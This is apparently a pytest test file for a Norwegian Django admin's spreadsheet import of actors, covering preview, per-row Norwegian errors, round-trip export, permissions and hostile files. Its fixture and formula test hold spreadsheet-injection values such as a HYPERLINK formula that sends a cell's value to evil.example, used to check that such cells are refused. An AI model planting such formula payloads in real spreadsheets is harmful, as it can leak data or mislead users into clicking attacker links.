"""Spreadsheet import of actors in the admin: preview, Norwegian errors by row, confirm, round trip."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from actors import imports
from actors.models import Actor
from tests.factories import ensure_seeded, make_actor, make_image_bytes, municipality, sector

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _places():
    """The municipalities and sectors the rows name (mutmut's runs have no data migration)."""
    ensure_seeded()


IMPORT = "/admin/actors/actor/import/"
HEADER = ["Navn", "Type", "Kommune", "Bransjer", "Kort presentasjon", "Organisasjonsnummer"]


def xlsx(rows: list[list], header: list[str] = HEADER, name: str = "aktorer.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    for row in [header, *rows]:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def csv_file(rows: list[list], header: list[str] = HEADER, name="aktorer.csv", encoding="utf-8"):
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([header, *rows])
    return SimpleUploadedFile(name, text.getvalue().encode(encoding))


def upload(client, file):
    return client.post(IMPORT, {"file": file})


def confirm(client, preview_response, **extra):
    html = preview_response.content.decode()
    payload = re.search(r'name="payload" value="([^"]+)"', html).group(1)
    data = {"payload": payload, **extra}
    if 'name="only_valid" value="1"' in html:
        data["only_valid"] = "1"
    return client.post(IMPORT, data)


def problems(response) -> list[tuple[int, str, str]]:
    preview = response.context["preview"]
    return [(row.number, p.column, p.message) for row in preview.errors for p in row.problems]


GOOD = ["Gardermoen Gitarlag", "Organisasjon eller forening", "Ullensaker", "Musikk", "Vi spiller."]


def test_preview_shows_new_and_changed_actors_and_writes_nothing(coordinator_client):
    existing = make_actor("Nes keramikk", municipality="nes", sectors=["kunsthandverk"])
    file = xlsx(
        [
            [
                "Nes keramikk",
                "Bedrift",
                "Nes",
                "Kunsthåndverk",
                "Ny tekst om oss.",
                "",
                existing.slug,
            ],
            [*GOOD, ""],
        ],
        header=[*HEADER, "Adressenavn"],
    )

    response = upload(coordinator_client, file)

    assert response.status_code == 200
    preview = response.context["preview"]
    assert [row.name for row in preview.created] == ["Gardermoen Gitarlag"]
    assert [row.name for row in preview.updated] == ["Nes keramikk"]
    changes = {(c.column, c.new) for c in preview.updated[0].changes}
    assert ("Type", "Bedrift") in changes
    assert ("Kort presentasjon", "Ny tekst om oss.") in changes
    html = response.content.decode()
    assert "1 ny aktør" in html and "1 aktør endres" in html
    assert "Bekreft og importer" in html
    assert not Actor.objects.filter(name="Gardermoen Gitarlag").exists()
    existing.refresh_from_db()
    assert existing.kind == Actor.Kind.ARTIST


def test_confirming_creates_published_unowned_profiles_that_owners_can_claim(
    coordinator_client, member_client
):
    preview = upload(coordinator_client, xlsx([GOOD]))

    response = confirm(coordinator_client, preview)

    assert response.status_code == 302
    actor = Actor.objects.get(name="Gardermoen Gitarlag")
    assert actor.status == Actor.Status.PUBLISHED
    assert actor.owner is None and actor.can_be_claimed
    assert actor.municipality == municipality("ullensaker")
    assert list(actor.sectors.all()) == [sector("musikk")]
    assert "gitarlag" in actor.search_text  # found in the directory
    assert actor.history.first().history_change_reason.startswith("Importert fra regnearket")
    claim = member_client.get(f"/aktorer/{actor.slug}/er-dette-deg/")
    assert claim.status_code == 200


def test_each_bad_row_says_what_is_wrong_in_norwegian_next_to_its_column(coordinator_client):
    make_actor("Nes keramikk", municipality="nes", org_number="988077917")
    file = xlsx(
        [
            ["Feil nummer", "Bedrift", "Ullensaker", "Musikk", "Tekst.", "988077918"],
            ["Ukjent sted", "Bedrift", "Drammen", "Musikk", "Tekst.", ""],
            ["Ukjent bransje", "Bedrift", "Nes", "Strikking", "Tekst.", ""],
            ["Vorma leire", "Bedrift", "Nes", "Design", "Tekst.", "988 077 917"],
            ["Ukjent type", "Romvesen", "Nes", "Design", "Tekst.", ""],
        ]
    )

    response = upload(coordinator_client, file)

    found = problems(response)
    assert (
        2,
        "Organisasjonsnummer",
        "Organisasjonsnummeret finnes ikke: kontrollsifferet stemmer ikke. Sjekk nummeret i Enhetsregisteret.",
    ) in found
    assert found[1][:2] == (3, "Kommune")
    assert found[1][2].startswith("Ukjent kommune «Drammen».")
    assert found[2][:2] == (4, "Bransjer")
    assert found[2][2].startswith("Ukjent bransje «Strikking».")
    assert found[3] == (5, "Navn", "Aktøren kan finnes fra før (samme organisasjonsnummer):")
    assert found[4][:2] == (6, "Type")
    html = response.content.decode()
    assert '<a href="/admin/actors/actor/' in html and ">Nes keramikk</a>" in html
    assert "Bekreft og importer" not in html


@pytest.mark.parametrize(
    ("place", "expected"),
    [
        ("Jessheim", "ullensaker"),
        ("Kløfta", "ullensaker"),
        ("Råholt", "eidsvoll"),
        ("Eidsvoll verk", "eidsvoll"),
        ("Årnes", "nes"),
        ("Maura", "nannestad"),
        ("2050", "ullensaker"),
        ("3209", "ullensaker"),  # the municipality's number
    ],
)
def test_municipality_column_understands_places_and_postal_codes(
    coordinator_client, place, expected
):
    row = ["Aktør fra " + place, "Bedrift", place, "Musikk", "Tekst.", ""]

    preview = upload(coordinator_client, xlsx([row])).context["preview"]

    assert preview.created[0].form.cleaned_data["municipality"] == municipality(expected)


def test_postal_place_or_code_is_used_when_the_municipality_is_empty(coordinator_client):
    header = ["Navn", "Type", "Kommune", "Bransjer", "Kort presentasjon", "Postnummer", "Poststed"]
    rows = [
        ["Fra poststed", "Bedrift", "", "Musikk", "Tekst.", "", "Kløfta"],
        ["Fra postnummer", "Bedrift", "", "Musikk", "Tekst.", "2150", ""],
        ["Fra ingensteds", "Bedrift", "", "Musikk", "Tekst.", "0150", "Oslo"],
    ]

    response = upload(coordinator_client, xlsx(rows, header=header))

    created = {
        row.name: row.form.cleaned_data["municipality"].slug
        for row in response.context["preview"].created
    }
    assert created == {"Fra poststed": "ullensaker", "Fra postnummer": "nes"}
    assert problems(response)[0][:2] == (4, "Kommune")


def test_a_file_with_errors_imports_nothing_unless_only_the_good_rows_are_chosen(
    coordinator_client,
):
    file = xlsx([GOOD, ["Uten bransje", "Bedrift", "Nes", "", "Tekst.", ""]])
    preview = upload(coordinator_client, file)
    html = preview.content.decode()
    payload = re.search(r'name="payload" value="([^"]+)"', html).group(1)

    refused = coordinator_client.post(IMPORT, {"payload": payload})
    assert refused.status_code == 200
    assert not Actor.objects.exists()

    chosen = coordinator_client.post(IMPORT, {"payload": payload, "only_valid": "1"})
    assert chosen.status_code == 302
    assert list(Actor.objects.values_list("name", flat=True)) == ["Gardermoen Gitarlag"]


def test_a_failure_while_writing_leaves_nothing_written(coordinator_client, monkeypatch):
    second = ["Andre rad", "Bedrift", "Nes", "Design", "Tekst.", ""]
    preview = upload(coordinator_client, xlsx([GOOD, second]))
    real_save = Actor.save

    def failing_save(self, *args, **kwargs):
        if self.name == "Andre rad":
            from django.db import IntegrityError

            raise IntegrityError("disk full")
        real_save(self, *args, **kwargs)

    monkeypatch.setattr(Actor, "save", failing_save)

    response = confirm(coordinator_client, preview)

    assert response.status_code == 500
    assert "Ingenting er lagret" in response.content.decode()
    assert not Actor.objects.exists()


def test_two_rows_for_the_same_actor_are_an_error(coordinator_client):
    twin = ["Gardermoen gitarlag AS", "Bedrift", "Jessheim", "Musikk", "Igjen.", ""]

    response = upload(coordinator_client, xlsx([GOOD, twin]))

    assert problems(response) == [
        (3, "Navn", "Samme aktør som rad 2 i filen (samme navn i samme kommune).")
    ]


# --- Round trip -----------------------------------------------------------------------


@pytest.fixture
def directory():
    make_actor(
        "Nes keramikk",
        municipality="nes",
        sectors=["kunsthandverk", "design"],
        org_number="988077917",
        phone="+4741234567",
        email="post@neskeramikk.no",
        website="https://neskeramikk.no",
        address="Storgata 1",
        postal_code="2150",
        postal_place="Årnes",
        open_for_collaboration=True,
    )
    make_actor(
        '=HYPERLINK("http://evil.example","Klikk")', municipality="hurdal", pitch="-minus først"
    )
    make_actor(
        "Eidsvoll jazz",
        municipality="eidsvoll",
        kind=Actor.Kind.ORGANISATION,
        status=Actor.Status.HIDDEN,
        available_for_hire=True,
    )


def snapshot() -> list[tuple]:
    return [
        (
            *(getattr(a, f) for f in imports.FIELDS if f != "sectors"),
            tuple(a.sectors.order_by("pk")),
        )
        for a in Actor.objects.order_by("slug")
    ]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_exported_list_imports_back_with_no_changes(coordinator_client, directory, fmt):
    exported = coordinator_client.get(f"/admin/actors/actor/eksport/{fmt}/")
    before = snapshot()

    preview = upload(coordinator_client, SimpleUploadedFile(f"aktorer.{fmt}", exported.content))

    rows = preview.context["preview"]
    assert problems(preview) == []
    assert (len(rows.unchanged), rows.created, rows.updated) == (3, [], [])
    assert "Det er ingenting å importere." in preview.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_exported_list_imports_into_an_empty_directory_as_the_same_data(
    coordinator_client, directory, fmt
):
    exported = coordinator_client.get(f"/admin/actors/actor/eksport/{fmt}/").content
    before = snapshot()
    Actor.objects.all().delete()

    preview = upload(coordinator_client, SimpleUploadedFile(f"aktorer.{fmt}", exported))
    assert problems(preview) == []
    confirm(coordinator_client, preview)

    assert snapshot() == before


# --- Hostile and wrong files ------------------------------------------------------------


def test_formula_cells_are_refused_not_evaluated_or_stored(coordinator_client):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(GOOD)
    sheet["A2"] = '=HYPERLINK("http://evil.example/?x="&B2,"Klikk")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    csv_row = ['=HYPERLINK("http://evil.example","Klikk")', *GOOD[1:]]

    from_xlsx = upload(coordinator_client, SimpleUploadedFile("a.xlsx", buffer.getvalue()))
    from_csv = upload(coordinator_client, csv_file([csv_row]))

    for response in (from_xlsx, from_csv):
        ((number, column, message),) = problems(response)
        assert (number, column) == (2, "Navn")
        assert message.startswith("Cellen inneholder en formel (=HYPERLINK…), ikke en verdi.")
    assert not Actor.objects.exists()


def test_control_characters_are_refused_with_the_forms_message(coordinator_client):
    row = ["Ond\x07klokke", *GOOD[1:]]

    response = upload(coordinator_client, csv_file([row]))

    ((number, column, message),) = problems(response)
    assert (number, column) == (2, "Navn")
    assert "usynlig tegn (U+0007" in message


def test_norwegian_excel_csv_in_windows_1252_is_read(coordinator_client):
    row = ["Kløfta kor", "Organisasjon eller forening", "Kløfta", "Musikk", "Vi synger på Kløfta."]

    response = upload(coordinator_client, csv_file([row], header=HEADER[:5], encoding="cp1252"))

    assert [r.name for r in response.context["preview"].created] == ["Kløfta kor"]


def test_too_big_files_and_too_many_rows_are_refused_with_a_clear_message(
    coordinator_client, monkeypatch
):
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    too_many = upload(coordinator_client, xlsx([GOOD] * 4))
    huge = upload(
        coordinator_client, SimpleUploadedFile("stor.csv", b"Navn\n" + b"x" * (3 * 1024 * 1024))
    )

    message = "Filen er for stor: høyst 2 MB og 3 rader. Del den opp i flere filer."
    for response in (too_many, huge):
        assert response.status_code == 400
        assert message in response.content.decode()
    assert not Actor.objects.exists()


def test_an_xlsx_that_unpacks_to_too_much_is_refused(coordinator_client, monkeypatch):
    monkeypatch.setattr(imports, "MAX_UNPACKED_BYTES", 1000)

    response = upload(coordinator_client, xlsx([GOOD] * 50))

    assert response.status_code == 400
    assert "Filen er for stor" in response.content.decode()


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("bilde.xlsx", make_image_bytes(20, 20), "Filen er ikke en Excel-fil (.xlsx)."),
        ("bilde.csv", make_image_bytes(20, 20, fmt="PNG"), "Filen er ikke en CSV-fil."),
        ("gammel.xls", b"\xd0\xcf\x11\xe0", "Filtypen .xls kan ikke leses."),
        ("notat.pdf", b"%PDF-1.4", "Velg en fil som slutter på .xlsx eller .csv."),
        ("tom.csv", b"", "Filen er tom."),
        ("uten-navn.csv", b"Kommune;Type\nNes;Bedrift\n", "Fant ikke kolonnen «Navn»"),
    ],
)
def test_wrong_files_are_refused_next_to_the_file_field(coordinator_client, name, data, message):
    response = upload(coordinator_client, SimpleUploadedFile(name, data))

    assert response.status_code == 400
    assert message in response.content.decode()


# --- Who may ----------------------------------------------------------------------------


def test_import_is_for_coordinators_only(client, member_client, coordinator_client):
    assert coordinator_client.get(IMPORT).status_code == 200
    for outsider in (client, member_client):
        response = outsider.post(IMPORT, {"file": xlsx([GOOD])})
        assert response.status_code in (302, 403)
    assert not Actor.objects.exists()


def test_a_preview_is_confirmed_only_by_its_coordinator_and_unchanged(coordinator_client):
    from django.test import Client

    from tests.factories import make_coordinator

    preview = upload(coordinator_client, xlsx([GOOD]))
    payload = re.search(r'name="payload" value="([^"]+)"', preview.content.decode()).group(1)
    other = Client()
    other.force_login(make_coordinator("annen-koordinator"))

    by_other = other.post(IMPORT, {"payload": payload})
    tampered = coordinator_client.post(IMPORT, {"payload": payload[:-3] + "abc"})

    for response in (by_other, tampered):
        assert response.status_code == 400
        assert "Last opp filen på nytt" in response.content.decode()
    assert not Actor.objects.exists()


def test_import_page_answers_only_get_and_post(coordinator_client):
    assert coordinator_client.put(IMPORT).status_code == 405


def test_change_list_links_to_the_import(coordinator_client):
    html = coordinator_client.get("/admin/actors/actor/").content.decode()

    assert f'href="{IMPORT}"' in html
